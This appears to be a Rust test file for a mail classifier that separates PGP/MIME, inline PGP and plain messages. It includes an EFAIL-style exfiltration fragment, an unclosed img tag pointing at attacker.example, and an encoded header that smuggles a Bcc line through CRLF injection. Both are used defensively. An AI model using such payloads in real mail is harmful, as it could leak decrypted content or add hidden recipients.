use super::*;

const ARMOR: &str =
    "-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA1234\r\n=abcd\r\n-----END PGP MESSAGE-----\r\n";

fn limits() -> MailLimits {
    MailLimits::default()
}

fn pgp_mime(extra_headers: &str) -> String {
    format!(
        "From: Jan <jan@example.org>\r\nSubject: ...\r\n{extra_headers}\
         Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\r\n\r\n\
         --e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\
         --e\r\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\r\n{ARMOR}--e--\r\n"
    )
}

#[test]
fn root_pgp_mime_gives_second_part_as_ciphertext() {
    let raw = pgp_mime("");
    let env = classify(raw.as_bytes(), &limits()).unwrap();
    let Envelope::PgpMime {
        ciphertext,
        outer,
        unencrypted_parts,
        wrapped,
    } = env
    else {
        panic!()
    };
    assert!(!wrapped);
    assert!(unencrypted_parts.is_empty());
    assert!(ciphertext.starts_with(b"-----BEGIN PGP MESSAGE-----"));
    // The CRLF before a boundary belongs to the boundary (RFC 2046).
    assert!(ciphertext.ends_with(b"-----END PGP MESSAGE-----"));
    // Sent without transfer encoding: read where it stands in the raw message, not copied.
    assert!(matches!(ciphertext, std::borrow::Cow::Borrowed(_)));
    assert_eq!(outer.first("from"), Some("Jan <jan@example.org>"));
    assert!(outer.raw.starts_with(b"From: Jan"));
    assert!(outer.raw.ends_with(b"boundary=e\r\n\r\n"));
}

#[test]
fn malformed_pgp_mime_is_refused() {
    let one_part = "From: a@example.org\r\nContent-Type: multipart/encrypted; \
        protocol=\"application/pgp-encrypted\"; boundary=e\r\n\r\n\
        --e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--e--\r\n";
    assert_eq!(
        classify(one_part.as_bytes(), &limits()).unwrap_err(),
        MailError::BadPgpMime {
            detail: "multipart/encrypted without two parts"
        }
    );
    let wrong_first = pgp_mime("").replace(
        "Content-Type: application/pgp-encrypted\r\n",
        "Content-Type: text/plain\r\n",
    );
    assert!(matches!(
        classify(wrong_first.as_bytes(), &limits()),
        Err(MailError::BadPgpMime { .. })
    ));
    let empty = pgp_mime("").replace(ARMOR, "\r\n");
    assert_eq!(
        classify(empty.as_bytes(), &limits()).unwrap_err(),
        MailError::BadPgpMime {
            detail: "empty encrypted part"
        }
    );
}

#[test]
fn two_encrypted_parts_are_refused_not_joined() {
    let inner = "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\r\n\r\n\
         --e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\
         --e\r\nContent-Type: application/octet-stream\r\n\r\n";
    let raw = format!(
        "From: a@example.org\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n\
         --m\r\n{inner}{ARMOR}--e--\r\n--m\r\n{inner}{ARMOR}--e--\r\n--m--\r\n"
    );
    assert_eq!(
        classify(raw.as_bytes(), &limits()).unwrap_err().code(),
        "mime-bad-pgp-mime"
    );
}

#[test]
fn list_footer_beside_pgp_mime_is_an_unencrypted_part() {
    let raw = format!(
        "From: a@example.org\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n{}\r\n\
         --m\r\nContent-Type: text/plain\r\n\r\nList footer: unsubscribe here\r\n--m--\r\n",
        pgp_mime("")
            .split_once("\r\n\r\n")
            .map(|(h, b)| {
                let ct = h
                    .lines()
                    .filter(|l| !l.starts_with("From") && !l.starts_with("Subject"))
                    .collect::<Vec<_>>()
                    .join("\r\n");
                format!("{ct}\r\n\r\n{b}")
            })
            .unwrap()
    );
    let env = classify(raw.as_bytes(), &limits()).unwrap();
    let Envelope::PgpMime {
        unencrypted_parts,
        wrapped,
        ciphertext,
        ..
    } = env
    else {
        panic!()
    };
    assert!(wrapped);
    assert!(!String::from_utf8_lossy(&ciphertext).contains("footer"));
    assert_eq!(unencrypted_parts.len(), 1);
    assert_eq!(unencrypted_parts[0].content_type, "text/plain");
    assert!(unencrypted_parts[0].data.starts_with(b"List footer"));
}

#[test]
fn inline_text_around_block_is_kept_apart() {
    let raw = format!(
        "From: a@example.org\r\nContent-Type: text/plain\r\n\r\nsee below\r\n\r\n{ARMOR}\r\n\
         <img src=\"http://attacker.example/?\r\n"
    );
    let env = classify(raw.as_bytes(), &limits()).unwrap();
    let Envelope::InlinePgp {
        blocks,
        unencrypted_parts,
        ..
    } = env
    else {
        panic!()
    };
    assert_eq!(blocks.len(), 1);
    assert_eq!(
        String::from_utf8(blocks[0].ciphertext.clone()).unwrap(),
        "-----BEGIN PGP MESSAGE-----\n\nhQEMA1234\n=abcd\n-----END PGP MESSAGE-----\n"
    );
    assert_eq!(unencrypted_parts.len(), 2);
    assert!(unencrypted_parts[0].data.starts_with(b"see below"));
    assert!(String::from_utf8_lossy(&unencrypted_parts[1].data).contains("attacker"));
}

#[test]
fn quoted_and_unterminated_armor_stays_text() {
    let quoted = "From: a@example.org\r\n\r\n> -----BEGIN PGP MESSAGE-----\r\n> abc\r\n> -----END PGP MESSAGE-----\r\n";
    assert!(matches!(
        classify(quoted.as_bytes(), &limits()).unwrap(),
        Envelope::Plain { .. }
    ));
    let open = "From: a@example.org\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nabc\r\n";
    assert!(matches!(
        classify(open.as_bytes(), &limits()).unwrap(),
        Envelope::Plain { .. }
    ));
}

#[test]
fn encrypted_attachments_are_blocks_and_keys_are_not() {
    let raw = format!(
        "From: a@example.org\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n\
         --m\r\nContent-Type: text/plain\r\n\r\nfiles attached\r\n\
         --m\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"C:\\\\Users\\\\jk\\\\raport.pdf.pgp\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\nhQEMA1234567\r\n\
         --m\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"notes.txt.asc\"\r\n\r\n{ARMOR}\
         --m\r\nContent-Type: application/pgp-keys\r\nContent-Disposition: attachment; filename=\"key.asc\"\r\n\r\n\
         -----BEGIN PGP PUBLIC KEY BLOCK-----\r\n\r\nxjMEX\r\n-----END PGP PUBLIC KEY BLOCK-----\r\n\
         --m\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"plain.gpg\"\r\n\r\nnot a packet\r\n\
         --m--\r\n"
    );
    let env = classify(raw.as_bytes(), &limits()).unwrap();
    let Envelope::InlinePgp {
        blocks,
        unencrypted_parts,
        ..
    } = env
    else {
        panic!()
    };
    let names: Vec<_> = blocks
        .iter()
        .map(|b| match &b.kind {
            InlineKind::Attachment { name } => name.as_ref().unwrap().as_str().to_owned(),
            InlineKind::BodyText => "body".to_owned(),
        })
        .collect();
    assert_eq!(names, ["raport.pdf.pgp", "notes.txt.asc"]);
    let loose: Vec<_> = unencrypted_parts
        .iter()
        .map(|p| p.content_type.as_str())
        .collect();
    assert_eq!(
        loose,
        [
            "text/plain",
            "application/pgp-keys",
            "application/octet-stream"
        ]
    );
}

#[test]
fn same_block_in_two_places_is_sent_once() {
    let raw = format!(
        "From: a@example.org\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n\
         --m\r\nContent-Type: text/plain\r\n\r\n{ARMOR}\
         --m\r\nContent-Type: text/plain\r\n\r\n{ARMOR}--m--\r\n"
    );
    let Envelope::InlinePgp { blocks, .. } = classify(raw.as_bytes(), &limits()).unwrap() else {
        panic!()
    };
    assert_eq!(blocks.len(), 1);
}

#[test]
fn plain_message_is_plain_with_decoded_fields() {
    let raw = "From: =?UTF-8?Q?Pawe=C5=82?= <pawel@example.org>\r\nSubject: =?ISO-8859-2?Q?Zg=B3oszenie?=\r\n\
         X-Evil: =?utf-8?Q?a=0D=0ABcc:_x@y?=\r\n\r\nhello\r\n";
    let env = classify(raw.as_bytes(), &limits()).unwrap();
    assert_eq!(env.kind(), "plain");
    let outer = env.outer();
    assert_eq!(outer.first("From"), Some("Paweł <pawel@example.org>"));
    assert_eq!(outer.first("subject"), Some("Zgłoszenie"));
    assert_eq!(outer.first("X-Evil"), Some("a Bcc: x@y"));
}

#[test]
fn not_a_message_is_unparseable() {
    assert_eq!(
        classify(b"", &limits()).unwrap_err(),
        MailError::Unparseable
    );
}

#[test]
fn debug_is_redacted() {
    let raw = pgp_mime("");
    let env = classify(raw.as_bytes(), &limits()).unwrap();
    let shown = format!("{env:?} {:?} {:?}", env.outer(), env.outer().fields);
    assert!(
        !shown.contains("jan@example.org") && !shown.contains("hQEMA"),
        "{shown}"
    );
}
